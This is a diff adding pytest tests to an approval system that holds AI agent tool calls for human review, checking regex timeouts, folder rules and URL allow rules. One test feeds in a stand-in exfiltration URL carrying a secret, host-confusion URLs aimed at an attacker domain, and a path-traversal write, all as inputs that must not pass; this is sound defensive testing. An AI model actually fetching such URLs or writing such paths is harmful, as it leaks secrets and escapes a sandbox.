@@ -1,6 +1,7 @@
 """Rules made by people (issue 14): the rules API and its scopes, "remember" on a decision, the
 card's "Always…" form, trust suggestions and the rejection contract, through the loop with the
 scripted model (eager Celery)."""
+import time
 from datetime import timedelta
 
 import pytest
@@ -83,6 +84,9 @@ def test_another_users_conversation_rule_or_agent_is_not_found(alice, mallory, a
     [
         ({"tool": "", "scope": "agent_user", "agent": "demo"}, "`tool`"),
         ({"tool": "x", "scope": "agent_user", "agent": "demo", "arguments": {"path": {"regex": "("}}}, "does not compile"),
+        ({"tool": "x", "scope": "agent_user", "agent": "demo", "arguments": {"content": {"regex": "(a)\\1"}}}, "does not compile"),
+        ({"tool": "x", "scope": "agent_user", "agent": "demo", "arguments": {"content": {"regex": "a" * 201}}}, "200"),
+        ({"tool": "web_fetch", "scope": "agent_user", "agent": "demo", "arguments": {"url": "https:/*"}}, "https://docs.vendor.test/*"),
         ({"tool": "x", "scope": "agent_user", "agent": "demo", "arguments": {"path": 3}}, "glob"),
         ({"tool": "x", "scope": "conversation"}, "conversation_id"),
         ({"tool": "x", "scope": "agent_user"}, "agent"),
@@ -315,3 +319,84 @@ def test_an_approver_makes_an_agent_wide_rule_from_the_dashboard(alice, bob, age
     assert (approval.decided_via, approval.decided_by) == ("dashboard", bob)
     # Everyone's conversations with the agent now run such calls unasked.
     assert start_conversation(alice, agent, "write hi to notes/b.txt").status == Conversation.Status.IDLE
+
+
+# --- Conditions that mean what they say, and who may undo a rule (issue 22) -----------------------------
+
+
+def test_a_catastrophic_regex_rule_is_matched_in_linear_time(alice, agent, api_as):
+    api = api_as(alice)
+    made = api.post("rules", {"effect": "allow", "tool": "write_file", "arguments": {"content": {"regex": "(a+)+b"}},
+                              "scope": "agent_user", "agent": agent.slug})
+    assert made.status_code == 201, made.json()
+    assert api.post("conversations", {"agent": agent.slug, "message": "what is 1 + 1"}).status_code == 201  # warm: the first turn imports
+    started = time.monotonic()
+    sent = api.post("conversations", {"agent": agent.slug, "message": f"write {'a' * 38}c to x.txt"})  # Python's re: ~2**38 steps
+    assert sent.status_code == 201, sent.json()
+    assert time.monotonic() - started < 1  # the whole turn, loop included (eager Celery)
+    conversation = Conversation.objects.get(pk=sent.json()["id"])
+    assert conversation.status == Conversation.Status.WAITING_FOR_APPROVAL  # the rule does not match: a human decides
+    assert Rule.objects.get().uses == 0
+
+
+def test_an_allowed_folder_does_not_allow_a_path_that_climbs_out_of_it(alice, agent, api_as, settings):
+    made = api_as(alice).post("rules", {"effect": "allow", "tool": "write_file", "arguments": {"path": "notes/*"},
+                                        "scope": "agent_user", "agent": agent.slug})
+    assert made.status_code == 201
+    climbed = start_conversation(alice, agent, "write hi to notes/../x.txt")
+    assert climbed.status == Conversation.Status.WAITING_FOR_APPROVAL
+    assert pending_approvals(climbed)[0].tool_call.arguments == {"path": "notes/../x.txt", "content": "hi"}
+    assert not (settings.HITL_SANDBOX_ROOT / str(climbed.pk) / "x.txt").exists()
+    assert start_conversation(alice, agent, "write hi to notes/a.txt").status == Conversation.Status.IDLE  # its own files still run
+
+
+def test_always_allow_on_a_fetch_covers_its_host_and_not_another(alice, agent, api_as):
+    conversation = start_conversation(alice, agent, "fetch https://docs.vendor.test")
+    [approval] = pending_approvals(conversation)
+    assert approval.rule_suggestion["arguments"] == {"url": "https://docs.vendor.test/*"}
+    page = client_for(alice).get(f"/conversations/{conversation.pk}/").content.decode()
+    assert 'name="cond:url" value="https://docs.vendor.test/*"' in page
+    # Remembered as offered (rejected here, so that nothing is fetched), then made an allow rule.
+    decided = api_as(alice).post(f"approvals/{approval.pk}/decision", {"decision": "reject", "remember": {"scope": "agent_user"}})
+    assert decided.status_code == 200, decided.json()
+    assert Rule.objects.get().arguments == {"url": "https://docs.vendor.test/*"}
+    Rule.objects.update(effect=Rule.Effect.ALLOW)
+    for url in ("https://exfil.attacker.test/?secret=s3cr3t", "https://docs.vendor.test.attacker.test/", "https://docs.vendor.test@attacker.test/"):
+        assert start_conversation(alice, agent, f"fetch {url}").status == Conversation.Status.WAITING_FOR_APPROVAL, url
+    assert Rule.objects.get().uses == 0
+
+
+def test_the_cards_always_form_refuses_a_url_condition_that_is_not_a_url(alice, agent):
+    conversation = start_conversation(alice, agent, "fetch https://docs.vendor.test")
+    [approval] = pending_approvals(conversation)
+    response = client_for(alice).post(
+        f"/approvals/{approval.pk}/decide/",
+        {"decision": "approve", "remember_scope": "conversation", "cond:url": "https:/*", "shown_hash": approval.shown_hash},
+        headers={"HX-Request": "true"},
+    )
+    assert response.status_code == 400 and "https://docs.vendor.test/*" in response.content.decode()
+    approval.refresh_from_db()
+    assert approval.status == "pending" and not Rule.objects.exists()
+
+
+def test_the_owner_cannot_disable_or_delete_an_approvers_rule_in_their_conversation(alice, bob, agent, api_as):
+    conversation = start_conversation(alice, agent, "read x.txt")
+    made = api_as(bob).post("rules", {"effect": "deny", "tool": "send_email", "arguments": {"to": "*@competitor.test"},
+                                      "scope": "conversation", "conversation_id": str(conversation.pk)})
+    assert made.status_code == 201, made.json()
+    rule_id = made.json()["id"]
+    api = api_as(alice)
+    assert [item["id"] for item in api.get("rules").json()["items"]] == [rule_id]  # she sees it
+
+    off = api.patch(f"rules/{rule_id}", {"enabled": False})
+    gone = api.delete(f"rules/{rule_id}")
+
+    assert off.status_code == 403 and "approver" in off.json()["detail"]
+    assert gone.status_code == 403 and "approver" in gone.json()["detail"]
+    rule = Rule.objects.get(pk=rule_id)
+    assert rule.enabled and rule.deleted_at is None
+    # Its maker may; so may the owner with her own rule in the same conversation.
+    assert api_as(bob).patch(f"rules/{rule_id}", {"enabled": False}).status_code == 200
+    assert not Rule.objects.get(pk=rule_id).enabled
+    own = api.post("rules", {"effect": "allow", "tool": "read_file", "scope": "conversation", "conversation_id": str(conversation.pk)})
+    assert api.delete(f"rules/{own.json()['id']}").status_code == 204
